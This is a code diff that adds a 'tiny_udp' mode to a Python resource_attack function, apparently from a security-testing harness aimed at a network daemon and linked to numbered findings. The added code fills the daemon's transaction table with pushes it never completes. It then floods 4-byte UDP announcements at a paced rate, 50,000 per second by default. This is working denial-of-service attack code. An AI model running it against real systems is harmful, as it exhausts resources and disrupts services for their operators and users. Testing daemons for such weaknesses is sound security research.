@@ -484,6 +484,9 @@ def resource_attack(cfg: dict) -> dict:
       tiny_stream    UDP: `fill` pushes from every source with distinct ids,
                      never completed (the transaction table full), then one
                      TCP connection streaming 4-byte announcements (finding 3)
+      tiny_udp       the same fill, then 4-byte announcements by UDP from the
+                     first source at `rate`/s (default 50,000), for daemons
+                     without a TCP port (bench/alfredbench/attack.py)
       udp_requests   UDP: 7-byte requests for type `req_type` at `rate`/s
                      from every source; counts what comes back (finding 4)
       tcp_requests   one TCP connection writes `count` requests at once, and
@@ -569,6 +572,37 @@ def resource_attack(cfg: dict) -> dict:
         stats["announces_streamed"] = stats["bytes_sent"] // 4
         stats["state"] = peer_state(s)
         s.close()
+
+    elif kind == "tiny_udp":
+        socks, scope = _udp_socks(cfg)
+        dest = (cfg["victim"], PORT, 0, scope)
+        for sk in socks:
+            for tx in range(cfg.get("fill", 64)):
+                try:
+                    sk.sendto(push(tx, 0, record(64, b"x" * 16)), dest)
+                    stats["sent"] += 1
+                except OSError as e:
+                    err(e)
+            time.sleep(0.01)
+        pkt, rate, sk = tlv(1, 0), cfg.get("rate", 50000), socks[0]
+        t1, n, streamed = time.monotonic(), 0, 0
+        while not _stop and time.monotonic() < end:
+            due = int((time.monotonic() - t1) * rate)
+            if n >= due:
+                time.sleep(0.0005)
+                continue
+            for _ in range(min(due - n, 1000)):
+                try:
+                    sk.sendto(pkt, dest)
+                    streamed += 1
+                    stats["bytes_sent"] += len(pkt)
+                except OSError as e:
+                    err(e)
+                n += 1
+        stats["sent"] += streamed
+        stats["announces_streamed"] = streamed
+        for s_ in socks:
+            s_.close()
 
     elif kind == "udp_requests":
         _paced_udp(cfg, request(cfg.get("req_type", 64), 0x7777), cfg.get("rate", 2000), end, stats, err)
